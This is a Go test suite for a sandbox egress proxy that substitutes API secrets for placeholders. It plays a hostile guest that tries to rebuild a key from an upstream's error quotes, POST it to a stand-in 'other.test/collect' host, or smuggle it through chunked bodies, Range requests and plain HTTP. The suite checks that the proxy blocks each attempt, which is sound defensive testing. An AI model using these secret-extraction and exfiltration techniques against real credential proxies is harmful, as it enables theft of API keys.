package egress

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"io"
	"mime"
	"mime/multipart"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/sbx-dev/sbx/policy"
)

// keyValue is 40 bytes: long enough that no single 24-byte quote holds
// it, short enough that a quote of each end does.
const (
	keyValue = "sk-live-7c1e9a2b4d6f8031a5c7e9b2d4f60813"
	keyPH    = "sbx_ph_key_0a1b2c3d4e5f60718293a4b5c6d7e8f9"
)

// recorder keeps what a hostile upstream received.
type recorder struct {
	mu   sync.Mutex
	reqs []string // host, then every header line and the body
}

func (rc *recorder) add(r *http.Request, body []byte) {
	var b strings.Builder
	b.WriteString(r.Host + " " + r.Method + " " + r.URL.String() + "\n")
	for k, vs := range r.Header {
		for _, v := range vs {
			b.WriteString(k + ": " + v + "\n")
		}
	}
	b.Write(body)
	rc.mu.Lock()
	rc.reqs = append(rc.reqs, b.String())
	rc.mu.Unlock()
}

func (rc *recorder) all() []string {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	return append([]string(nil), rc.reqs...)
}

// valueRun returns the first run of n bytes of value (or of its reverse)
// found in s, or "".
func valueRun(s, value string, n int) string {
	for _, v := range []string{value, reverse(value)} {
		for i := 0; i+n <= len(v); i++ {
			if strings.Contains(s, v[i:i+n]) {
				return v[i : i+n]
			}
		}
	}
	return ""
}

// keyHarness has api.test, where secret "key" goes (as a Bearer token,
// a Basic password or the whole of x-api-key), and other.test, allowed
// but not bound; one hostile upstream serves both and records every
// request.
func keyHarness(t *testing.T, handler http.HandlerFunc) (*harness, *recorder) {
	t.Helper()
	pki := newUpstreamPKI(t)
	rec := &recorder{}
	up := upstreamTLS(t, pki, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rec.add(r, body)
		r.Body = io.NopCloser(bytes.NewReader(body))
		handler(w, r)
	}), "api.test", "other.test")
	p := spec(pki, []policy.AllowRule{allow("api.test", 4), allow("other.test", 5)},
		mapping("api.test", serverAddr(up)), mapping("other.test", serverAddr(up)))
	p.Secrets = []policy.SecretBinding{{
		Name: "key", Env: "API_KEY", Source: "env:API_KEY",
		Hosts:   []policy.HostPattern{policy.MustHostPattern("api.test")},
		Headers: []string{"x-api-key"},
		Origin:  origin("secret.key", 30),
	}}
	h := newHarness(t, p, map[string][]byte{"key": []byte(keyValue)}, map[string]string{"key": keyPH})
	return h, rec
}

// quotingUpstream plays an API that answers a bad credential by quoting
// its first and last 24 bytes, as error messages of real APIs do
// ("invalid key sk-live-7c1e…0813"). It quotes every credential-like
// header: Authorization after its scheme (Basic decoded) and each X-
// header.
func quotingUpstream(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Authorization") == "Bearer "+keyValue || r.Header.Get("X-Api-Key") == keyValue {
		io.WriteString(w, "ok")
		return
	}
	if _, pass, ok := r.BasicAuth(); ok && pass == keyValue {
		io.WriteString(w, "ok")
		return
	}
	var creds []string
	if a := r.Header.Get("Authorization"); a != "" {
		_, cred, _ := strings.Cut(a, " ")
		if _, pass, ok := r.BasicAuth(); ok {
			cred = pass
		}
		creds = append(creds, cred)
	}
	for k, vs := range r.Header {
		if strings.HasPrefix(k, "X-") {
			creds = append(creds, vs...)
		}
	}
	w.WriteHeader(http.StatusUnauthorized)
	for _, c := range creds {
		first, last := c, c
		if len(c) > 24 {
			first, last = c[:24], c[len(c)-24:]
		}
		fmt.Fprintf(w, "invalid credential first=%s last=%s\n", first, last)
	}
}

// quoted returns the first (or last) quote in an answer of
// quotingUpstream.
func quoted(body, which string) string {
	_, rest, ok := strings.Cut(body, which+"=")
	if !ok {
		return ""
	}
	q, _, _ := strings.Cut(rest, " ")
	return strings.TrimSuffix(q, "\n")
}

// TestPartialQuoteRecoversNothing plays a guest that puts the placeholder
// next to bytes it knows, in every header the secret could go in and in
// an arbitrary one, so that the upstream rejects the credential and
// quotes its ends; it rebuilds what it can from the quotes and sends it,
// reversed, to another host. The credential the upstream sees is always
// the whole value or no value at all, so the quotes carry none of it.
func TestPartialQuoteRecoversNothing(t *testing.T) {
	h, rec := keyHarness(t, quotingUpstream)
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		ask := func(set func(*http.Request)) (int, string) {
			req := mustRequest(t, "GET", "https://api.test/v1/models", "")
			set(req)
			res, body := do(t, c, req)
			return res.StatusCode, body
		}
		// The secret where it goes: the value reaches the upstream.
		for what, set := range map[string]func(*http.Request){
			"bearer":    func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+keyPH) },
			"basic":     func(r *http.Request) { r.SetBasicAuth("x-access-token", keyPH) },
			"x-api-key": func(r *http.Request) { r.Header.Set("X-Api-Key", keyPH) },
		} {
			if code, body := ask(set); code != 200 || body != "ok" {
				t.Errorf("h2=%v %s: %d %q", h2, what, code, body)
			}
		}

		// The attack: known bytes before and after the placeholder.
		type probe struct {
			what   string
			set    func(r *http.Request, v string)
			before string // known bytes the guest put before the placeholder
			after  string
		}
		var probes []probe
		for _, k := range []int{1, 2, 7} {
			pre, post := strings.Repeat("A", k), strings.Repeat("B", k)
			probes = append(probes,
				probe{"bearer prefix", func(r *http.Request, v string) { r.Header.Set("Authorization", "Bearer "+v) }, pre, ""},
				probe{"bearer suffix", func(r *http.Request, v string) { r.Header.Set("Authorization", "Bearer "+v) }, "", post},
				probe{"x-api-key prefix", func(r *http.Request, v string) { r.Header.Set("X-Api-Key", v) }, pre, ""},
				probe{"x-api-key suffix", func(r *http.Request, v string) { r.Header.Set("X-Api-Key", v) }, "", post},
				probe{"other header", func(r *http.Request, v string) { r.Header.Set("X-Debug", v) }, pre, post},
				probe{"basic password prefix", func(r *http.Request, v string) { r.SetBasicAuth("u", v) }, pre, ""},
				probe{"basic password suffix", func(r *http.Request, v string) { r.SetBasicAuth("u", v) }, "", post},
				probe{"other scheme", func(r *http.Request, v string) { r.Header.Set("Authorization", "Token"+pre+" "+v) }, "", ""},
			)
		}
		var prefix, suffix string
		for _, p := range probes {
			code, body := ask(func(r *http.Request) { p.set(r, p.before+keyPH+p.after) })
			if code != http.StatusForbidden || !strings.Contains(body, `secret "key"`) || !strings.Contains(body, "main.hcl:30") {
				t.Errorf("h2=%v %s: %d %q, want a refusal naming secret.key (main.hcl:30)", h2, p.what, code, body)
			}
			if first := strings.TrimPrefix(quoted(body, "first"), p.before); len(first) > len(prefix) {
				prefix = first
			}
			if last := strings.TrimSuffix(quoted(body, "last"), p.after); len(last) > len(suffix) {
				suffix = last
			}
		}
		// What the guest rebuilt, the two ends joined at their overlap.
		recovered := prefix + suffix
		for o := min(len(prefix), len(suffix)); o > 0; o-- {
			if strings.HasSuffix(prefix, suffix[:o]) {
				recovered = prefix + suffix[o:]
				break
			}
		}
		if run := valueRun(recovered, keyValue, 4); run != "" {
			t.Errorf("h2=%v the guest rebuilt %q from the quotes (value run %q)", h2, recovered, run)
		}
		req := mustRequest(t, "POST", "https://other.test/collect", reverse(recovered)+" "+prefix+" "+suffix)
		do(t, c, req)
	}
	// The upstream never saw the value except alone, as the credential.
	for _, r := range rec.all() {
		for _, line := range strings.Split(r, "\n") {
			switch line {
			case "Authorization: Bearer " + keyValue, "X-Api-Key: " + keyValue,
				"Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+keyValue)):
				continue
			}
			if run := valueRun(line, keyValue, 4); run != "" {
				t.Errorf("the upstream got %q (value run %q)", line, run)
			}
		}
	}
}

// TestPlaceholderOutOfPlaceRefused plays a guest that puts the
// placeholder where the secret is not substituted, in a request to the
// secret's own host: another header, the path, the query, a header the
// secret names but around other bytes. Each is refused naming the
// secret's rule, and nothing reaches the upstream.
func TestPlaceholderOutOfPlaceRefused(t *testing.T) {
	h, rec := keyHarness(t, quotingUpstream)
	c := h.client(true)
	for what, set := range map[string]func(*http.Request){
		"another header":         func(r *http.Request) { r.Header.Set("X-Debug", keyPH) },
		"cookie":                 func(r *http.Request) { r.Header.Set("Cookie", "s="+keyPH) },
		"the path":               func(r *http.Request) { r.URL.Path = "/v1/" + keyPH },
		"the query":              func(r *http.Request) { r.URL.RawQuery = "key=" + keyPH },
		"the query, encoded":     func(r *http.Request) { r.URL.RawQuery = "key=%73" + keyPH[1:] },
		"x-api-key with a space": func(r *http.Request) { r.Header.Set("X-Api-Key", keyPH+" x") },
		"two bearer tokens":      func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+keyPH+" "+keyPH) },
		"basic user":             func(r *http.Request) { r.SetBasicAuth(keyPH, keyPH) },
		"raw authorization":      func(r *http.Request) { r.Header.Set("Authorization", keyPH) },
	} {
		req := mustRequest(t, "GET", "https://api.test/v1", "")
		set(req)
		res, body := do(t, c, req)
		if res.StatusCode != http.StatusForbidden || !strings.Contains(body, `secret "key"`) || !strings.Contains(body, "main.hcl:30") {
			t.Errorf("%s: %d %q", what, res.StatusCode, body)
		}
	}
	if got := rec.all(); len(got) != 0 {
		t.Errorf("the upstream got %d requests: %q", len(got), got)
	}
}

// TestRangeNotSentWithASecret plays an upstream that echoes the
// credential in a body and honours Range, and a guest that asks for
// ranges splitting the value across the parts of a multipart answer,
// where masking could not see it whole. No Range or If-Range goes
// upstream with a substituted request.
func TestRangeNotSentWithASecret(t *testing.T) {
	h, rec := keyHarness(t, func(w http.ResponseWriter, r *http.Request) {
		body := "credential: " + r.Header.Get("Authorization") + " end of echo"
		http.ServeContent(w, r, "echo.txt", time.Time{}, strings.NewReader(body))
	})
	for _, h2 := range []bool{false, true} {
		c := h.client(h2)
		for _, rng := range []string{"bytes=0-24,25-200", "bytes=20-30", "bytes=-30", "bytes=0-24,25-200 if-range"} {
			req := mustRequest(t, "GET", "https://api.test/echo", "")
			req.Header.Set("Authorization", "Bearer "+keyPH)
			if r, ok := strings.CutSuffix(rng, " if-range"); ok {
				req.Header.Set("Range", r)
				req.Header.Set("If-Range", "Mon, 02 Jan 2006 15:04:05 GMT")
			} else {
				req.Header.Set("Range", rng)
			}
			res, body := do(t, c, req)
			if res.StatusCode != 200 || body != "credential: Bearer "+keyPH+" end of echo" {
				t.Errorf("h2=%v Range %s: %d %q", h2, rng, res.StatusCode, body)
			}
			if run := valueRun(body, keyValue, 4); run != "" {
				t.Errorf("h2=%v Range %s: the guest got %q of the value", h2, rng, run)
			}
			// Whatever came back, the guest cannot rebuild the value from
			// its parts.
			if _, params, err := mime.ParseMediaType(res.Header.Get("Content-Type")); err == nil && params["boundary"] != "" {
				mr := multipart.NewReader(strings.NewReader(body), params["boundary"])
				var all string
				for {
					p, err := mr.NextPart()
					if err != nil {
						break
					}
					b, _ := io.ReadAll(p)
					all += string(b)
				}
				if strings.Contains(all, keyValue) {
					t.Errorf("h2=%v Range %s: the parts hold the value", h2, rng)
				}
			}
		}
		// To a host no secret goes to, ranges pass.
		req := mustRequest(t, "GET", "https://other.test/echo", "")
		req.Header.Set("Range", "bytes=0-9")
		if res, body := do(t, c, req); res.StatusCode != http.StatusPartialContent || body != "credential" {
			t.Errorf("h2=%v Range to a host without a secret: %d %q", h2, res.StatusCode, body)
		}
	}
	for _, r := range rec.all() {
		if strings.Contains(r, keyValue) && (strings.Contains(r, "\nRange:") || strings.Contains(r, "\nIf-Range:")) {
			t.Errorf("the upstream got a Range with the secret:\n%s", r)
		}
	}
}

// TestTransformedEchoesMasked plays an upstream that echoes the value
// upper-cased, lower-cased, base64-encoded (alone and inside a longer
// base64 text at each alignment), percent-encoded, HTML- and
// JSON-escaped. The
// value has the characters those encodings change.
func TestTransformedEchoesMasked(t *testing.T) {
	const value = "Key/2+3=<x>&9F-aZ_q"
	pki := newUpstreamPKI(t)
	got := make(chan string, 1)
	up := upstreamTLS(t, pki, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		v := r.Header.Get("X-Api-Key")
		got <- v
		var echo string
		switch r.URL.Path {
		case "/upper":
			echo = strings.ToUpper(v)
		case "/lower":
			echo = strings.ToLower(v)
		case "/json-upper":
			b, _ := json.Marshal(map[string]string{"error": "invalid key " + strings.ToUpper(v)})
			echo = string(b)
		case "/json":
			b, _ := json.Marshal(map[string]string{"error": "invalid key " + v})
			echo = string(b)
		case "/json-slash":
			b, _ := json.Marshal(v)
			echo = strings.ReplaceAll(string(b), "/", `\/`)
		case "/base64":
			echo = base64.StdEncoding.EncodeToString([]byte(v))
		case "/base64url":
			echo = base64.RawURLEncoding.EncodeToString([]byte(v))
		case "/base64-1", "/base64-2", "/base64-3":
			pre := strings.Repeat("p", int(r.URL.Path[len(r.URL.Path)-1]-'0'))
			echo = base64.StdEncoding.EncodeToString([]byte(pre + v + "trailing bytes"))
		case "/query":
			echo = "https://api.test/next?key=" + url.QueryEscape(v)
		case "/path":
			echo = "https://api.test/" + url.PathEscape(v)
		case "/query-lower":
			echo = strings.ToLower(url.QueryEscape(v))
		case "/html":
			echo = "<p>invalid key " + html.EscapeString(v) + "</p>"
		}
		w.Header().Set("X-Echo", echo)
		io.WriteString(w, echo)
	}), "api.test")
	p := spec(pki, []policy.AllowRule{allow("api.test", 4)}, mapping("api.test", serverAddr(up)))
	p.Secrets = []policy.SecretBinding{{Name: "key", Env: "API_KEY", Headers: []string{"x-api-key"},
		Hosts: []policy.HostPattern{policy.MustHostPattern("api.test")}, Origin: origin("secret.key", 30)}}
	h := newHarness(t, p, map[string][]byte{"key": []byte(value)}, map[string]string{"key": keyPH})
	c := h.client(false)
	for _, path := range []string{"/upper", "/lower", "/json-upper", "/json", "/json-slash", "/base64", "/base64url",
		"/base64-1", "/base64-2", "/base64-3", "/query", "/path", "/query-lower", "/html"} {
		req := mustRequest(t, "GET", "https://api.test"+path, "")
		req.Header.Set("X-Api-Key", keyPH)
		res, body := do(t, c, req)
		if v := <-got; v != value {
			t.Fatalf("%s: the upstream got %q", path, v)
		}
		for where, s := range map[string]string{"body": body, "header": res.Header.Get("X-Echo")} {
			if leak := transformedLeak(s, value); leak != "" {
				t.Errorf("%s: the %s %q holds the value as %s", path, where, s, leak)
			}
		}
	}
}

// transformedLeak says in which form s holds value, if it does in one
// the test's upstream uses.
func transformedLeak(s, value string) string {
	low := strings.ToLower(s)
	if strings.Contains(low, strings.ToLower(value)) {
		return "text"
	}
	if strings.Contains(low, strings.ToLower(url.QueryEscape(value))) || strings.Contains(low, strings.ToLower(url.PathEscape(value))) {
		return "percent-encoding"
	}
	if strings.Contains(low, strings.ToLower(html.EscapeString(value))) {
		return "HTML"
	}
	for _, js := range []string{jsonString(value, true), jsonString(value, false)} {
		if strings.Contains(low, strings.ToLower(js)) || strings.Contains(low, strings.ToLower(strings.ReplaceAll(js, "/", `\/`))) {
			return "JSON"
		}
	}
	for _, enc := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
		if raw, err := enc.DecodeString(strings.TrimRight(s, "=")); err == nil && bytes.Contains(raw, []byte(value)) {
			return "base64"
		}
		for k := 0; k < 3; k++ {
			if strings.Contains(s, base64Core(enc, value, k)) {
				return "base64"
			}
		}
	}
	return ""
}

// TestPlaceholderInBodyToOtherHostRefused plays a guest that posts the
// placeholder (or the value) to a host the secret is not bound to, in
// one piece or split across the chunks of a chunked HTTP/1.1 body and
// across h2 DATA frames: the upstream never gets it. To the secret's own
// host a body with the placeholder passes, untouched.
func TestPlaceholderInBodyToOtherHostRefused(t *testing.T) {
	h, rec := keyHarness(t, func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "stored") })
	half := len(keyPH) / 2
	for _, parts := range [][]string{
		{"note=" + keyPH},
		{"note=" + keyPH[:half], keyPH[half:] + "&x=1"},
		{"n", keyPH[:1], keyPH[1:2], keyPH[2:]},
		{"v=" + keyValue[:5], keyValue[5:]},
	} {
		// Chunked HTTP/1.1, each part its own chunk.
		c, err := h.guestTLS("other.test", 443, "other.test", "http/1.1")
		if err != nil {
			t.Fatal(err)
		}
		bw := bufio.NewWriter(c)
		fmt.Fprintf(bw, "POST /collect HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\n\r\n")
		for _, p := range parts {
			fmt.Fprintf(bw, "%x\r\n%s\r\n", len(p), p)
			bw.Flush()
			time.Sleep(10 * time.Millisecond)
		}
		fmt.Fprintf(bw, "0\r\n\r\n")
		bw.Flush()
		res, err := http.ReadResponse(bufio.NewReader(c), nil)
		if err != nil {
			t.Fatalf("%q: %v", parts, err)
		}
		body, _ := io.ReadAll(res.Body)
		c.Close()
		if res.StatusCode != http.StatusForbidden || !strings.Contains(string(body), `secret "key"`) || !strings.Contains(string(body), "request body") {
			t.Errorf("chunked %q: %d %q", parts, res.StatusCode, body)
		}

		// h2, each part its own DATA frame.
		pr, pw := io.Pipe()
		go func() {
			for _, p := range parts {
				pw.Write([]byte(p))
				time.Sleep(10 * time.Millisecond)
			}
			pw.Close()
		}()
		req := mustRequest(t, "POST", "https://other.test/collect", "")
		req.Body = pr
		res2, body2 := do(t, h.client(true), req)
		if res2.StatusCode != http.StatusForbidden || !strings.Contains(body2, `secret "key"`) {
			t.Errorf("h2 %q: %d %q", parts, res2.StatusCode, body2)
		}
	}
	req := mustRequest(t, "POST", "https://api.test/notes", "my key is $API_KEY="+keyPH)
	if res, body := do(t, h.client(true), req); res.StatusCode != 200 || body != "stored" {
		t.Errorf("the placeholder in a body to its own host: %d %q", res.StatusCode, body)
	}
	for _, r := range rec.all() {
		if strings.HasPrefix(r, "other.test") && (strings.Contains(r, keyPH) || strings.Contains(r, keyValue)) {
			t.Errorf("the upstream got:\n%s", r)
		}
	}
}

// TestSecretOnlyOverTLS plays a guest that sends the placeholder in
// plain HTTP to the secret's host: to port 80 of a name mapped to the
// real (TLS) upstream and of a name public DNS resolves, and plain HTTP
// to port 443. None is substituted, and nothing reaches an upstream. A
// local fixture the secret lists in plain_http takes it; the same fixture
// without that entry does not.
func TestSecretOnlyOverTLS(t *testing.T) {
	pki := newUpstreamPKI(t)
	rec := &recorder{}
	recording := func(next http.HandlerFunc) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			rec.add(r, nil)
			next(w, r)
		})
	}
	tlsUp := upstreamTLS(t, pki, recording(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "tls") }), "api.test")
	fixture := newPlainUpstream(t, recording(func(w http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") == "Bearer "+keyValue {
			io.WriteString(w, "fixture ok")
			return
		}
		http.Error(w, "bad credentials", http.StatusUnauthorized)
	}))
	var dialsOut atomic.Int32
	mk := func(plain ...policy.HostPort) *harness {
		p := spec(pki, []policy.AllowRule{allow("api.test", 4), allow("public.test", 5), allow("local.test", 6)},
			mapping("api.test", serverAddr(tlsUp)), mapping("local.test", fixture))
		p.Secrets = []policy.SecretBinding{{Name: "key", Env: "API_KEY",
			Hosts:     []policy.HostPattern{policy.MustHostPattern("api.test"), policy.MustHostPattern("public.test"), policy.MustHostPattern("local.test")},
			PlainHTTP: plain, Origin: origin("secret.key", 30)}}
		return newHarness(t, p, map[string][]byte{"key": []byte(keyValue)}, map[string]string{"key": keyPH}, func(o *Options) {
			o.Upstream.LookupNetIP = func(context.Context, string, string) ([]netip.Addr, error) {
				return []netip.Addr{netip.MustParseAddr("93.184.215.14")}, nil
			}
			next := o.Upstream.DialContext
			o.Upstream.DialContext = func(ctx context.Context, network, addr string) (net.Conn, error) {
				if addr == "93.184.215.14:80" {
					dialsOut.Add(1)
					return nil, errors.New("no dialling out in tests")
				}
				var d net.Dialer
				if next != nil {
					return next(ctx, network, addr)
				}
				return d.DialContext(ctx, network, addr)
			}
		})
	}
	h := mk(policy.HostPort{Host: "local.test", Port: 80})
	for _, host := range []string{"api.test", "public.test"} {
		req := mustRequest(t, "GET", "http://"+host+"/v1", "")
		req.Header.Set("Authorization", "Bearer "+keyPH)
		res, body := do(t, h.client(false), req)
		if res.StatusCode != http.StatusForbidden || !strings.Contains(body, "unencrypted") || !strings.Contains(body, "main.hcl:30") {
			t.Errorf("plain HTTP to %s:80: %d %q", host, res.StatusCode, body)
		}
	}
	// Plain HTTP to port 443: the connection is refused before any request.
	c, err := net.Dial("tcp", h.addr("api.test", 443))
	if err != nil {
		t.Fatal(err)
	}
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n", keyPH)
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if res, err := http.ReadResponse(bufio.NewReader(c), nil); err == nil {
		t.Errorf("plain HTTP to api.test:443: %d", res.StatusCode)
	}
	c.Close()
	for _, r := range rec.all() {
		if !strings.HasPrefix(r, "local.test") {
			t.Errorf("an upstream got:\n%s", r)
		}
	}
	if n := dialsOut.Load(); n != 0 {
		t.Errorf("%d dials to public.test", n)
	}

	// The fixture the secret names in plain_http.
	req := mustRequest(t, "GET", "http://local.test/", "")
	req.Header.Set("Authorization", "Bearer "+keyPH)
	if res, body := do(t, h.client(false), req); res.StatusCode != 200 || body != "fixture ok" {
		t.Errorf("plain HTTP to the opted-in fixture: %d %q", res.StatusCode, body)
	}
	// Over TLS the mapped host takes the secret as ever.
	req = mustRequest(t, "GET", "https://api.test/", "")
	req.Header.Set("Authorization", "Bearer "+keyPH)
	if res, body := do(t, h.client(false), req); res.StatusCode != 200 || body != "tls" {
		t.Errorf("https to api.test: %d %q", res.StatusCode, body)
	}

	// Without plain_http, a mapped local fixture does not get it either.
	h = mk()
	req = mustRequest(t, "GET", "http://local.test/", "")
	req.Header.Set("Authorization", "Bearer "+keyPH)
	if res, body := do(t, h.client(false), req); res.StatusCode != http.StatusForbidden || !strings.Contains(body, "plain_http") {
		t.Errorf("plain HTTP to a fixture not in plain_http: %d %q", res.StatusCode, body)
	}
}

// TestRewriteRequestPlaces checks each place a placeholder is taken, and
// that the value replaces it there alone.
func TestRewriteRequestPlaces(t *testing.T) {
	p, err := Compile(policy.Sandbox{Secrets: []policy.SecretBinding{{Name: "key", Env: "K",
		Hosts:   []policy.HostPattern{policy.MustHostPattern("api.test")},
		Headers: []string{"authorization", "x-api-key"}, Origin: origin("secret.key", 30)}}},
		map[string][]byte{"key": []byte(keyValue)}, map[string]string{"key": keyPH})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		key, in, want string // want "" for a refusal
	}{
		{"Authorization", "Bearer " + keyPH, "Bearer " + keyValue},
		{"Authorization", "bearer   " + keyPH, "Bearer " + keyValue},
		{"Authorization", keyPH, keyValue},
		{"Authorization", "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+keyPH)), "Basic " + base64.StdEncoding.EncodeToString([]byte("me:"+keyValue))},
		{"X-Api-Key", keyPH, keyValue},
		{"X-Api-Key", "Bearer " + keyPH, ""},
		{"Authorization", "Token " + keyPH, ""},
		{"Authorization", "Bearer x" + keyPH, ""},
		{"X-Other", keyPH, ""},
		{"X-Other", "no placeholder", "no placeholder"},
	} {
		h := http.Header{tc.key: {tc.in}}
		sub, d := p.rewriteRequest("api.test", 443, true, h, "/")
		switch {
		case tc.want == "" && d == nil:
			t.Errorf("%s: %q was taken: %q", tc.key, tc.in, h.Get(tc.key))
		case tc.want != "" && d != nil:
			t.Errorf("%s: %q refused: %s", tc.key, tc.in, d.reason)
		case tc.want != "" && h.Get(tc.key) != tc.want:
			t.Errorf("%s: %q became %q, want %q", tc.key, tc.in, h.Get(tc.key), tc.want)
		case tc.want != "" && tc.want != tc.in && (len(sub.used) != 1 || sub.used[0] != "key"):
			t.Errorf("%s: %q: used %v", tc.key, tc.in, sub.used)
		}
	}
}

// FuzzRewriteRequest builds request headers from pieces the guest
// controls around the placeholder and checks that whenever the request
// is not refused, the value stands only as a whole credential: a Bearer
// token, a Basic password or a header the secret names, with nothing of
// the guest's around it in that credential.
func FuzzRewriteRequest(f *testing.F) {
	f.Add(uint8(0), "Bearer ", "", uint8(1))
	f.Add(uint8(1), "", "", uint8(0))
	f.Add(uint8(2), "Bearer A", "", uint8(1))
	f.Add(uint8(3), "x", "y", uint8(0))
	f.Add(uint8(0), "Basic ", "", uint8(2))
	p, err := Compile(policy.Sandbox{Secrets: []policy.SecretBinding{{Name: "key", Env: "K",
		Hosts: []policy.HostPattern{policy.MustHostPattern("api.test")}, Headers: []string{"x-api-key"}}}},
		map[string][]byte{"key": []byte(keyValue)}, map[string]string{"key": keyPH})
	if err != nil {
		f.Fatal(err)
	}
	keys := []string{"Authorization", "X-Api-Key", "X-Other", "Cookie"}
	f.Fuzz(func(t *testing.T, k uint8, before, after string, form uint8) {
		if strings.Contains(before+after, keyValue[:4]) || strings.ContainsAny(before+after, "\r\n\x00") {
			return // the guest typing the value itself is another matter
		}
		key := keys[int(k)%len(keys)]
		var v string
		switch form % 3 {
		case 0:
			v = before + keyPH + after
		case 1:
			v = before + " " + keyPH + after
		case 2:
			v = "Basic " + base64.StdEncoding.EncodeToString([]byte(before+":"+keyPH+after))
		}
		h := http.Header{key: {v}}
		if _, d := p.rewriteRequest("api.test", 443, true, h, "/"); d != nil {
			return
		}
		out := h.Get(key)
		if !strings.Contains(out, keyValue) {
			if basic, _ := cutBasicValue(out); !strings.Contains(basic, keyValue) {
				return
			}
		}
		switch {
		case key == "Authorization" && out == "Bearer "+keyValue:
		case key == "X-Api-Key" && out == keyValue:
		case key == "Authorization":
			basic, ok := cutBasicValue(out)
			user, pass, _ := strings.Cut(basic, ":")
			if !ok || pass != keyValue || strings.Contains(user, keyValue) {
				t.Fatalf("%s: %q became %q", key, v, out)
			}
		default:
			t.Fatalf("%s: %q became %q", key, v, out)
		}
	})
}

func cutBasicValue(v string) (string, bool) {
	_, cred, ok := cutBasic(v)
	if !ok {
		return "", false
	}
	raw, err := base64.StdEncoding.DecodeString(cred)
	return string(raw), err == nil
}
